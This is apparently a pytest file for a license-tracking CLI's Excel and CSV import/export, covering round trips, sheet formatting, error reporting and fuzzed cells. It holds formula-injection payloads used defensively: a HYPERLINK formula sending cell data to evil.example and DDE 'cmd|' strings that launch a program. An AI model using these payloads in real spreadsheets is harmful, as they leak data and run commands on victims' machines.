"""Excel workbooks in and out, and the formula guard of CSV export."""

from __future__ import annotations

import io
import zipfile
from datetime import date, datetime, time
from decimal import Decimal
from typing import TYPE_CHECKING, Any

import openpyxl
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl.utils import get_column_letter

from export_licenses.storage import store as store_api
from helpers import examples

if TYPE_CHECKING:
    from pathlib import Path

    from conftest import Run

TODAY = "2026-01-15"
# What a spreadsheet would run if these were read as formulas.
FORMULAS = {
    "notes": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "end_user": "+cmd|' /C calc'!A0",
    "exporter": "@SUM(1+1)*cmd|' /C calc'!A0",
    "hs_code": None,
}


def day(year: int, month: int, number: int) -> datetime:
    """A date cell as openpyxl reads it back: midnight of that day."""
    return datetime.combine(date(year, month, number), time())


def make_workbook(path: Path, sheets: dict[str, list[list[Any]]]) -> Path:
    book = openpyxl.Workbook()
    first = book.active
    assert first is not None
    book.remove(first)
    for name, rows in sheets.items():
        sheet = book.create_sheet(name)
        for row in rows:
            sheet.append(row)
    book.save(path)
    return path


def test_export_then_import_into_an_empty_store_gives_the_same_licenses(
    example: Path, tmp_path: Path, run: Run, store: Path
) -> None:
    workbook = tmp_path / "all.xlsx"
    exported = run(
        "--store",
        str(example),
        "--today",
        TODAY,
        "export",
        "--all",
        "-f",
        "xlsx",
        "-o",
        str(workbook),
    )
    assert exported.exit_code == 0, exported.stderr
    imported = run("import", str(workbook))
    assert imported.exit_code == 0, imported.stderr
    before = store_api.read(example).licenses
    after = store_api.read(store).licenses
    assert imported.stdout == f"{len(before)}\n"
    # Everything but the keys written by hand (JSON export keeps those).
    assert [lic._replace(extra={}) for lic in after] == [
        lic._replace(extra={}) for lic in before
    ]
    assert any(lic.shipments for lic in after)
    assert any(lic.superseded_by for lic in after)
    assert any(len(lic.end_users or ()) == 2 for lic in after)


def test_the_licenses_sheet_is_made_for_reading(
    example: Path, tmp_path: Path, run: Run
) -> None:
    target = tmp_path / "out.xlsx"
    result = run(
        "--store",
        str(example),
        "--today",
        TODAY,
        "export",
        "-f",
        "xlsx",
        "-o",
        str(target),
    )
    assert result.exit_code == 0, result.stderr
    assert "Wrote 17 licenses" in result.stderr  # the active ones
    book = openpyxl.load_workbook(target)
    assert book.sheetnames == ["Licenses", "Applications", "Shipments"]
    sheet = book["Licenses"]
    header = [cell.value for cell in sheet[1]]
    assert header[:10] == [
        "ID",
        "Number",
        "Material",
        "Destination",
        "End user",
        "Issued",
        "Expires",
        "Renew by",
        "Days left",
        "Level",
    ]
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == f"A1:{get_column_letter(len(header))}18"
    first = dict(zip(header, sheet[2], strict=True))
    assert first["Number"].value == "MOFCOM-2025-DY-0412"
    assert first["Issued"].value == day(2025, 6, 20)  # a real date cell
    assert first["Issued"].number_format == "yyyy-mm-dd"
    assert first["Expires"].value == day(2025, 12, 20)
    assert first["Days left"].value == -26
    assert first["Level"].value == "expired"
    assert first["Level"].fill.fgColor.rgb.endswith("9C0006")
    assert first["Quantity"].value == 2000
    assert sheet.column_dimensions["E"].width > len("Lone Star Magnetics LLC")
    general = next(
        dict(zip(header, row, strict=True))
        for row in sheet.iter_rows(min_row=2)
        if row[0].value == 18
    )
    # A general license's end users: one cell, as import reads them back.
    assert (
        general["End users"].value == "Rhein Antriebstechnik GmbH; Weser Windkraft GmbH"
    )
    shipments = book["Shipments"]
    assert [c.value for c in shipments[1]] == [
        "License",
        "Number",
        "Date",
        "Quantity",
        "Unit",
        "Note",
    ]
    assert [c.value for c in shipments[2]] == [
        1,
        "MOFCOM-2025-DY-0412",
        day(2025, 7, 14),
        800,
        "kg",
        None,
    ]
    assert book["Applications"]["A2"].value.startswith("A")


def test_no_applications_sheet_before_there_are_applications(
    run: Run, tmp_path: Path
) -> None:
    run("add", "-m", "terbium", "-d", "DE", "-i", "2026-01-05")
    target = tmp_path / "out.xlsx"
    assert (
        run("--today", TODAY, "export", "-f", "xlsx", "-o", str(target)).exit_code == 0
    )
    assert openpyxl.load_workbook(target).sheetnames == ["Licenses", "Shipments"]


def test_a_workbook_can_go_to_a_pipe(run: Run, example: Path) -> None:
    result = run("--store", str(example), "--today", TODAY, "export", "-f", "xlsx")
    assert result.exit_code == 0
    book = openpyxl.load_workbook(io.BytesIO(result.stdout_bytes))
    assert book["Licenses"].max_row == 18  # the header and 17 active licenses


def test_formulas_stay_text_in_the_workbook_and_in_csv(
    run: Run, store: Path, tmp_path: Path
) -> None:
    add = run(
        "add",
        "-m",
        "=1+2",
        "-d",
        "US",
        "-i",
        "2026-01-05",
        "--note",
        FORMULAS["notes"],
        "--end-user",
        FORMULAS["end_user"],
        "--exporter",
        FORMULAS["exporter"],
        "--number",
        "-2+3",
    )
    assert add.exit_code == 0, add.stderr
    target = tmp_path / "out.xlsx"
    assert (
        run("--today", TODAY, "export", "-f", "xlsx", "-o", str(target)).exit_code == 0
    )
    sheet = openpyxl.load_workbook(target)["Licenses"]
    cells = {c.value: cell for c, cell in zip(sheet[1], sheet[2], strict=True)}
    for name, value in [
        ("Material", "=1+2"),
        ("Notes", FORMULAS["notes"]),
        ("End user", FORMULAS["end_user"]),
        ("Exporter", FORMULAS["exporter"]),
        ("Number", "-2+3"),
    ]:
        assert cells[name].value == value
        assert cells[name].data_type == "s", name  # a string, not a formula
        assert cells[name].quotePrefix

    csv_text = run("export", "-f", "csv").stdout
    assert "'=1+2" in csv_text
    assert "'+cmd" in csv_text
    assert "'@SUM" in csv_text
    assert "'-2+3" in csv_text
    assert "'=HYPERLINK" in csv_text
    # Both come back as they were written.
    original = store_api.read(store).licenses
    for name, text in [("csv", csv_text), ("xlsx", None)]:
        again = tmp_path / f"again-{name}.toml"
        source = target
        if text is not None:
            source = tmp_path / "out.csv"
            source.write_text(text, encoding="utf-8")
        result = run("--store", str(again), "import", str(source))
        assert result.exit_code == 0, result.stderr
        assert store_api.read(again).licenses == original


def test_a_quote_before_a_formula_sign_survives_the_csv_round_trip(
    run: Run, tmp_path: Path
) -> None:
    run("add", "-m", "'=not a formula", "-d", "US", "-i", "2026-01-05")
    csv_file = tmp_path / "out.csv"
    csv_file.write_text(run("export", "-f", "csv").stdout, encoding="utf-8")
    again = tmp_path / "again.toml"
    assert run("--store", str(again), "import", str(csv_file)).exit_code == 0
    assert store_api.read(again).licenses[0].material == "'=not a formula"


def test_import_a_workbook_as_people_make_them(
    run: Run, store: Path, tmp_path: Path
) -> None:
    path = make_workbook(
        tmp_path / "q3.xlsx",
        {
            "Notes": [["nothing to import here"]],
            "Licenses": [
                [],  # a blank first row: the header is the first row with cells
                [
                    "Number",
                    "MATERIAL",
                    "Destination",
                    "Issued",
                    "Term months",
                    "Quantity",
                    "Unit",
                    "end user",
                    "Renewal",
                ],
                [
                    "DY-1",
                    "dysprosium oxide",
                    "United States",
                    date(2026, 1, 5),
                    6,
                    1250.5,
                    "kg",
                    "Acme",
                    "no",
                ],
                ["TB-2", "terbium", "DE", "2026-02-01", "12", 7, "kg", None, None],
                [],
                [
                    "SM-3",
                    "samarium",
                    "jp",
                    datetime.combine(date(2026, 3, 2), time(9, 30)),
                    None,
                    None,
                    None,
                    None,
                    True,
                ],
            ],
            "Shipments": [
                ["License", "Date", "Quantity", "Note"],
                ["DY-1", date(2026, 2, 1), 250, "lot 1"],
                ["dy-1", "2026-03-01", 0.5, None],
            ],
        },
    )
    result = run("import", str(path))
    assert result.exit_code == 0, result.stderr
    assert result.stdout == "3\n"
    first, second, third = store_api.read(store).licenses
    assert (first.number, first.destination, first.issued, first.quantity) == (
        "DY-1",
        "US",
        date(2026, 1, 5),
        Decimal("1250.5"),
    )
    assert (first.end_user, first.renewal, first.term_months) == ("Acme", False, 6)
    assert [(s.on, s.quantity, s.note) for s in first.shipments] == [
        (date(2026, 2, 1), Decimal(250), "lot 1"),
        (date(2026, 3, 1), Decimal("0.5"), None),
    ]
    assert (second.term_months, second.quantity, second.issued) == (
        12,
        Decimal(7),
        date(2026, 2, 1),
    )
    assert (third.destination, third.issued, third.renewal) == (
        "JP",
        date(2026, 3, 2),
        None,
    )


def test_sheet_option_picks_the_sheet(run: Run, store: Path, tmp_path: Path) -> None:
    path = make_workbook(
        tmp_path / "two.xlsx",
        {
            "2025": [
                ["material", "destination", "issued"],
                ["old", "US", date(2025, 1, 1)],
            ],
            "2026": [
                ["material", "destination", "issued"],
                ["new", "US", date(2026, 1, 1)],
            ],
        },
    )
    assert run("import", str(path)).exit_code == 0  # no Licenses sheet: the first
    assert run("import", str(path), "--sheet", "2026").exit_code == 0
    assert [lic.material for lic in store_api.read(store).licenses] == ["old", "new"]
    missing = run("import", str(path), "--sheet", "2027")
    assert missing.exit_code == 64
    assert (
        missing.stderr
        == f"licenses: {path}: no sheet named '2027'; its sheets are '2025', '2026'\n"
    )


def test_bad_rows_are_named_by_sheet_row_and_column(
    run: Run, store: Path, tmp_path: Path
) -> None:
    run("add", "-m", "x", "-d", "US", "-i", "2025-01-01")
    before = store.read_bytes()
    path = make_workbook(
        tmp_path / "bad.xlsx",
        {
            "Licenses": [
                ["Material", "Destination", "Issued", "Quantity", "Number"],
                ["yttrium", "US", date(2025, 10, 1), 100, "Y-1"],
                ["terbium", "Narnia", "2025-02-30", -3, "Y-2"],
                [None, "DE", 45000, None, "Y-3"],
            ],
            "Shipments": [
                ["License", "Date", "Quantity"],
                ["Y-9", date(2025, 11, 1), 5],
            ],
        },
    )
    result = run("import", str(path))
    assert result.exit_code == 65
    lines = result.stderr.splitlines()
    assert (
        lines[0]
        == f"licenses: {path}, sheet Licenses: 3 invalid rows; nothing was imported"
    )
    assert lines[1:] == [
        "  sheet Shipments, row 2, column A: license: Y-9 is no license of sheet Licenses",
        "  sheet Licenses, row 3, column B: destination: unknown country 'Narnia' (give an ISO 3166-1 code such as DE or DEU, or an English name)",
        "  sheet Licenses, row 3, column C: issued: '2025-02-30' is not a day of the calendar",
        "  sheet Licenses, row 3, column D: quantity: expected a positive number, got -3",
        "  sheet Licenses, row 4, column C: issued: expected a date as YYYY-MM-DD, got '45000'",
    ]
    assert store.read_bytes() == before


def test_unknown_columns_and_files_that_are_not_workbooks(
    run: Run, store: Path, tmp_path: Path
) -> None:
    path = make_workbook(tmp_path / "cols.xlsx", {"Licenses": [["Material", "Colour"]]})
    result = run("import", str(path))
    assert result.exit_code == 65
    assert result.stderr.startswith(
        f"licenses: {path}, sheet Licenses: unknown column 'Colour';"
    )
    broken = tmp_path / "broken.xlsx"
    broken.write_bytes(b"PK\x03\x04 not really a zip")
    result = run("import", str(broken))
    assert result.exit_code == 65
    assert result.stderr.startswith(
        f"licenses: {broken}: not a readable Excel workbook"
    )
    assert len(result.stderr.splitlines()) == 1
    # A real workbook whose sheet refers to text that is not there.
    good = make_workbook(tmp_path / "good.xlsx", {"Licenses": [["material"], ["x"]]})
    garbled = tmp_path / "garbled.xlsx"
    with zipfile.ZipFile(good) as source, zipfile.ZipFile(garbled, "w") as target:
        for item in source.infolist():
            data = source.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":
                data = b'<worksheet><sheetData><row><c r="A1" t="s"><v>999</v></c></row></sheetData></worksheet>'
            target.writestr(item, data)
    result = run("import", str(garbled))
    assert result.exit_code == 65
    assert result.stderr.startswith(
        f"licenses: {garbled}, sheet Licenses: cannot be read: "
    )
    assert len(result.stderr.splitlines()) == 1
    csv_file = tmp_path / "plain.csv"
    csv_file.write_text(
        "material,destination,issued\nx,US,2026-01-01\n", encoding="utf-8"
    )
    result = run("import", str(csv_file), "--sheet", "Licenses")
    assert result.exit_code == 64
    assert result.stderr == (
        f"licenses: --sheet: is for a workbook (.xlsx), not CSV ({csv_file})\n"
    )
    assert not store.exists()


def test_a_term_and_an_expiry_that_disagree_are_refused(
    run: Run, store: Path, tmp_path: Path
) -> None:
    path = make_workbook(
        tmp_path / "both.xlsx",
        {
            "Licenses": [
                ["material", "destination", "issued", "term_months", "expires"],
                ["a", "US", date(2026, 1, 10), 6, date(2026, 7, 10)],
                ["b", "US", date(2026, 1, 10), 6, date(2026, 7, 11)],
            ]
        },
    )
    result = run("import", str(path))
    assert result.exit_code == 65
    assert (
        "row 3, column E: expires: 2026-07-11 is not 6 months after issued 2026-01-10 (2026-07-10)"
        in result.stderr
    )
    rows = openpyxl.load_workbook(path)
    rows["Licenses"].delete_rows(3)
    rows.save(path)
    assert run("import", str(path)).exit_code == 0
    (lic,) = store_api.read(store).licenses
    assert (lic.term_months, lic.expires) == (6, None)


def test_no_renewal_survives_the_csv_round_trip(run: Run, tmp_path: Path) -> None:
    run("add", "-m", "x", "-d", "US", "-i", "2026-01-01", "--no-renewal")
    csv_file = tmp_path / "out.csv"
    csv_file.write_text(run("export", "-f", "csv").stdout, encoding="utf-8")
    again = tmp_path / "again.toml"
    assert run("--store", str(again), "import", str(csv_file)).exit_code == 0
    assert store_api.read(again).licenses[0].renewal is False


CELLS = st.one_of(
    st.none(),
    st.text(
        alphabet=st.characters(codec="utf-8", exclude_categories=["Cc", "Cs"]),
        max_size=30,
    ),
    st.integers(min_value=-(10**20), max_value=10**20),
    st.floats(allow_nan=False, allow_infinity=False),
    st.booleans(),
    st.dates(),
    st.sampled_from(["=1+2", "'=x", "2026-02-30", "DE", "1.250,5", "no", "45000"]),
)


@settings(
    max_examples=examples(40),
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture],
)
@given(rows=st.lists(st.lists(CELLS, min_size=1, max_size=6), max_size=4))
def test_any_cells_are_imported_or_refused_never_a_crash(
    run: Run, store: Path, tmp_path: Path, rows: list[list[Any]]
) -> None:
    path = make_workbook(
        tmp_path / "fuzz.xlsx",
        {
            "Licenses": [
                [
                    "material",
                    "destination",
                    "issued",
                    "quantity",
                    "notes",
                    "term_months",
                ],
                *rows,
            ]
        },
    )
    store.unlink(missing_ok=True)
    result = run("import", str(path))
    assert result.exit_code in {0, 65}, result.stderr
    assert "Traceback" not in result.stderr
    if result.exit_code == 65:
        assert not store.exists()
